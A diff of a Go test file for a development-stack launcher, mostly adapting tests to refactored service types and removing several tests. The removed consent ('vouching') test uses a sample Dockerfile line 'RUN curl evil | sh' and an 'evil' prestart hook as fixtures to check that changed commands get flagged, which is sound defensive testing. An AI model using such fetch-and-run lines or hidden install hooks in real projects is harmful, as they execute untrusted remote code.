@@ -2,7 +2,6 @@ package launch
 
 import (
 	"errors"
-	"fmt"
 	"os"
 	"path/filepath"
 	"slices"
@@ -66,11 +65,11 @@ func planned(t *testing.T, opt Options) *Plan {
 	if err != nil {
 		t.Fatal(err)
 	}
-	o, err := order.Build(mixed, order.Options{Services: opt.Services, Except: opt.Except})
+	o, err := order.Build(mixed.Stack, order.Options{Services: opt.Services, Except: opt.Except})
 	if err != nil {
 		t.Fatal(err)
 	}
-	p, err := Make(root, s, mixed, o, opt)
+	p, err := Make(root, os.DirFS(root), mixed, o, opt)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -79,7 +78,7 @@ func planned(t *testing.T, opt Options) *Plan {
 
 // env gives one variable of a service's environment; the last one counts.
 func (p *Plan) env(service, key string) string {
-	for _, kv := range slices.Backward(p.Services["service:"+service].Environment) {
+	for _, kv := range slices.Backward(p.Services[stack.ServiceNode(service)].Environment) {
 		if v, ok := strings.CutPrefix(kv, key+"="); ok {
 			return v
 		}
@@ -137,7 +136,7 @@ func TestPlan(t *testing.T) {
 	api := p.Services["service:api"]
 	if api.Runs != stack.Native || strings.Join(api.Command, " ") != "npm run start" || api.Ports[0].Target != 9001 ||
 		api.ImageTag != "" || filepath.Base(api.Dir) != "api" {
-		t.Errorf("natively the API is %+v", api.Service)
+		t.Errorf("natively the API is %+v", api)
 	}
 	web := p.Services["service:web"]
 	if web.ImageTag != "nharbor-"+p.ID+"-web" || !slices.Contains(web.Container.ExtraHosts,
@@ -163,9 +162,9 @@ func TestMixFails(t *testing.T) {
 	t.Parallel()
 	s := &stack.Stack{Services: []stack.Service{
 		{Name: "db", Runs: stack.Container, Ports: []stack.Port{{Host: 5432, Target: 5432}}},
-		{Name: "web", Runs: stack.Native, NativeCommand: []string{"x"}},
+		{Name: "web", Runs: stack.Native, NativeWay: stack.NativeWay{NativeCommand: []string{"x"}}},
 	}}
-	for code, opt := range map[string]Options{"not-native": {Native: []string{"db"}},
+	for code, opt := range map[stack.Code]Options{"not-native": {Native: []string{"db"}},
 		"not-container": {Container: []string{"web"}}, "shift-too-far": {Shift: 65000}} {
 		_, err := Mix(s, opt)
 		var f *stack.Fault
@@ -180,183 +179,19 @@ func TestMixFails(t *testing.T) {
 
 func TestMissingEnvFile(t *testing.T) {
 	t.Parallel()
-	s := &stack.Stack{Services: []stack.Service{{Name: "a", Runs: stack.Container, Container: &stack.ContainerSpec{},
-		EnvFiles: []stack.EnvFileRef{
+	s := &stack.Stack{Services: []stack.Service{{Name: "a", Runs: stack.Container,
+		ContainerWay: stack.ContainerWay{Container: &stack.ContainerSpec{}},
+		FromFiles: stack.FromFiles{EnvFiles: []stack.EnvFileRef{
 			{Path: "absent.env", Required: true, At: stack.Place{File: "compose.yaml", Line: 4}},
-			{Path: "also-absent.env"}}}}}
+			{Path: "also-absent.env"}}}}}}
 	o, err := order.Build(s, order.Options{})
 	if err != nil {
 		t.Fatal(err)
 	}
-	_, err = Make(t.TempDir(), s, s, o, Options{})
+	_, err = Make(t.TempDir(), fstest.MapFS{}, &Mixed{s, s}, o, Options{})
 	if faults := stack.AllFaults(err); err == nil || len(faults) != 1 || faults[0].Code != "env-file-missing" ||
 		faults[0].At.Line != 4 {
 		t.Errorf("the error is %v", err)
-	}
-}
-
-func TestVouching(t *testing.T) {
-	t.Setenv("XDG_STATE_HOME", t.TempDir()) // so this test is not parallel
-	root := t.TempDir()
-	fsys := fstest.MapFS{}
-	for name, text := range ferry {
-		fsys[name] = &fstest.MapFile{Data: []byte(text)}
-	}
-	list := func() []Command {
-		t.Helper()
-		s, err := survey.Survey(fsys, survey.Options{Root: root})
-		if err != nil {
-			t.Fatal(err)
-		}
-		o, err := order.Build(s, order.Options{})
-		if err != nil {
-			t.Fatal(err)
-		}
-		return Commands(fsys, s, o)
-	}
-	fresh := func(commands []Command) string {
-		t.Helper()
-		any, err := MarkNew(root, commands)
-		if err != nil {
-			t.Fatal(err)
-		}
-		var out []string
-		for _, c := range commands {
-			if c.New {
-				out = append(out, c.ID)
-			}
-		}
-		if any != (len(out) > 0) {
-			t.Errorf("MarkNew says %v, and new are %v", any, out)
-		}
-		return strings.Join(out, " ")
-	}
-	all := list()
-	if got := fresh(all); strings.Count(got, " ") != 4 {
-		t.Errorf("at first these are new: %s", got)
-	}
-	if err := Vouch(root, all); err != nil {
-		t.Fatal(err)
-	}
-	if got := fresh(list()); got != "" {
-		t.Errorf("after the consent these are new: %s", got)
-	}
-	fsys["web/Dockerfile"] = &fstest.MapFile{Data: []byte("FROM scratch\nRUN curl evil | sh\n")}
-	fsys["admin/package.json"] = &fstest.MapFile{Data: []byte(
-		`{"scripts": {"prestart": "evil", "start": "node server.js --port 7000"}}`)}
-	changed := list()
-	if got := fresh(changed); got != "service:admin service:web" {
-		t.Errorf("after a change these are new: %s", got)
-	}
-	shown := fmt.Sprint(changed)
-	for _, want := range []string{"RUN curl evil | sh", "prestart: evil"} {
-		if !strings.Contains(shown, want) {
-			t.Errorf("%q is not shown", want)
-		}
-	}
-	if got := fresh(all); got != "" {
-		t.Errorf("what was vouched for is forgotten: %s", got)
-	}
-	file, err := consentFile(root)
-	if err != nil {
-		t.Fatal(err)
-	}
-	if info, err := os.Stat(file); err != nil || info.Mode().Perm() != 0o600 {
-		t.Errorf("the consent's file: %v", err)
-	}
-	if err := os.WriteFile(file, []byte("{torn"), 0o600); err != nil {
-		t.Fatal(err)
-	}
-	if got := fresh(list()); got == "" {
-		t.Error("a torn consent counts as one")
-	}
-}
-
-func TestExplain(t *testing.T) {
-	t.Parallel()
-	service := stack.Service{Name: "web"}
-	at := stack.Port{Host: 8000, Target: 80, At: stack.Place{File: "compose.yaml", Line: 5}}
-	record := func(runs string, s stack.State) *Record {
-		return &Record{Services: []RecordService{{Name: "web", Runs: runs, State: s, Text: "no luck"}}}
-	}
-	for _, c := range []struct {
-		name    string
-		check   stack.PortCheck
-		record  *Record
-		alive   bool
-		verdict stack.Verdict
-		cause   string
-	}{
-		{"nothing was launched", stack.PortCheck{Verdict: stack.Refuses}, nil, false, stack.Refuses, "not launched"},
-		{"somebody else is there",
-			stack.PortCheck{Verdict: stack.Answers, Owner: &stack.Owner{PID: 7, Command: "nginx"}}, nil, false,
-			stack.Stranger, "nginx, process 7"},
-		{"it failed", stack.PortCheck{Verdict: stack.Refuses}, record(stack.Native, stack.Failed), true, stack.Refuses,
-			"failed: no luck"},
-		{"it was skipped", stack.PortCheck{Verdict: stack.Refuses}, record(stack.Native, stack.Skipped), true,
-			stack.Refuses, "skipped, since no luck"},
-		{"it was stopped", stack.PortCheck{Verdict: stack.Refuses}, record(stack.Native, stack.Stopped), true,
-			stack.Refuses, "was stopped"},
-		{"it is not part", stack.PortCheck{Verdict: stack.Refuses}, &Record{}, true, stack.Refuses,
-			"not part of this launch"},
-		{"only inside", stack.PortCheck{Verdict: stack.Refuses}, record(stack.Container, stack.IsUp), true,
-			stack.Refuses, "own loopback"},
-		{"it does not listen", stack.PortCheck{Verdict: stack.Refuses}, record(stack.Native, stack.IsUp), true,
-			stack.Refuses, "does not listen"},
-		{"it hangs up", stack.PortCheck{Verdict: stack.Refuses,
-			Cause: "it accepts the connection and hangs up without a word"}, record(stack.Native, stack.IsUp), true,
-			stack.Silent, "hangs up"},
-		{"it says nothing", stack.PortCheck{Verdict: stack.Silent}, record(stack.Native, stack.IsUp), true,
-			stack.Silent, "says nothing within"},
-		{"it speaks another language", stack.PortCheck{Verdict: stack.Stranger, Expected: "http", Speaks: "redis"},
-			record(stack.Container, stack.IsUp), true, stack.Stranger, "http was expected, and redis answers"},
-		{"all is well", stack.PortCheck{Verdict: stack.Answers}, record(stack.Container, stack.IsUp), true,
-			stack.Answers, ""},
-	} {
-		got := c.check
-		explain(&got, service, at, c.record, c.alive)
-		if got.Verdict != c.verdict || !strings.Contains(got.Cause, c.cause) ||
-			(got.Remedy == "") != (c.verdict == stack.Answers) {
-			t.Errorf("%s: %+v", c.name, got)
-		}
-	}
-}
-
-func TestHostPath(t *testing.T) {
-	t.Parallel()
-	root := t.TempDir()
-	if err := os.WriteFile(filepath.Join(root, "file"), []byte("x"), 0o600); err != nil {
-		t.Fatal(err)
-	}
-	outside := t.TempDir()
-	if err := os.Symlink(outside, filepath.Join(root, "link")); err != nil {
-		t.Fatal(err)
-	}
-	home, err := os.UserHomeDir()
-	if err != nil {
-		t.Fatal(err)
-	}
-	p := &Plan{Root: root}
-	for source, want := range map[string]string{
-		"new/folder": filepath.Join(root, "new/folder"), "file": filepath.Join(root, "file"),
-		"../beside": filepath.Join(filepath.Dir(root), "beside"),
-		"/etc":      "/etc", "~/.x": filepath.Join(home, ".x"), "link/made": filepath.Join(root, "link/made"),
-	} {
-		if got := p.hostPath(source); got != want {
-			t.Errorf("%s lies at %s, want %s", source, got, want)
-		}
-	}
-	if info, err := os.Stat(filepath.Join(root, "new/folder")); err != nil || !info.IsDir() {
-		t.Errorf("the folder in the workspace was not made: %v", err)
-	}
-	if data, err := os.ReadFile(filepath.Join(root, "file")); err != nil || string(data) != "x" {
-		t.Errorf("the file is now %q, %v", data, err)
-	}
-	if _, err := os.Stat(filepath.Join(filepath.Dir(root), "beside")); err == nil {
-		t.Error("a folder outside was made")
-	}
-	if entries, _ := os.ReadDir(outside); len(entries) > 0 {
-		t.Errorf("through a link %v was made outside", entries)
 	}
 }
 
@@ -379,18 +214,19 @@ func TestOwnPort(t *testing.T) {
 		"nothing is known": {[]string{"serve"}, stack.PortBy{}, "serve", "PORT=4100"},
 	} {
 		s := &stack.Stack{Services: []stack.Service{{Name: "web", Runs: stack.Native, Kind: stack.Lasting, Project: ".",
-			Command: c.command, NativeCommand: c.command, PortBy: c.by, Bin: []string{"node_modules/.bin"},
+			Command: c.command, NativeWay: stack.NativeWay{NativeCommand: c.command, PortBy: c.by,
+				Bin: []string{"node_modules/.bin"}},
 			Ports: []stack.Port{{Host: 4000, Target: 4000, Transport: "tcp"}}}}}
 		mixed, err := Mix(s, Options{Shift: 100})
 		if err != nil {
 			t.Fatal(err)
 		}
-		o, err := order.Build(mixed, order.Options{})
+		o, err := order.Build(mixed.Stack, order.Options{})
 		if err != nil {
 			t.Fatal(err)
 		}
 		root := t.TempDir()
-		p, err := Make(root, s, mixed, o, Options{Shift: 100})
+		p, err := Make(root, fstest.MapFS{}, mixed, o, Options{Shift: 100})
 		if err != nil {
 			t.Fatal(err)
 		}
